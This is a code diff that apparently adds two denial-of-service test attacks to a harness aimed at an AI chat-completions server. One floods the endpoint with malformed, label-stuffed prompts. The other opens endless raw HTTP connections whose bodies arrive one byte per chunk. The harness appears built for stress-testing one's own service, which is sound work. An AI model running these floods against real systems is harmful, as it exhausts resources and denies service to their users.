@@ -300,6 +300,34 @@ async def refused_keys(target: Target) -> None:
     await _post_all(wrong, _forever(chat("x" * 4_000_000)), 8)
 
 
+async def crafted_questions(target: Target) -> None:
+    """Ask questions full of labels of an option A, which have no option B."""
+    bodies = _forever(chat(("A." + "\n" * 10) * 1700, tts={"beta": 0.1}), chat("(A" * 10_000, tts={"beta": 0.1}))
+    await _post_all(target, bodies, 4)
+
+
+async def tiny_chunks(target: Target) -> None:
+    """Send bodies in chunks of one byte each."""
+    body = chat("x" * 300_000)
+    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"
+    head = (
+        f"POST /v1/chat/completions HTTP/1.1\r\nhost: {target.host}:{target.port}\r\n"
+        f"authorization: Bearer {target.token}\r\ncontent-type: application/json\r\n"
+        "transfer-encoding: chunked\r\nconnection: close\r\n\r\n"
+    ).encode()
+
+    async def send() -> None:
+        while True:
+            with suppress(OSError):
+                reader, writer = await asyncio.open_connection(target.host, target.port)
+                writer.write(head + chunks)
+                await reader.read()
+                writer.close()
+            await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(send() for _ in range(2)))
+
+
 ATTACKS: Final[dict[str, Attack]] = {
     each.__name__: each
     for each in (
@@ -316,6 +344,8 @@ ATTACKS: Final[dict[str, Attack]] = {
         spinning_children,
         feedback_flood,
         refused_keys,
+        crafted_questions,
+        tiny_chunks,
     )
 }
 
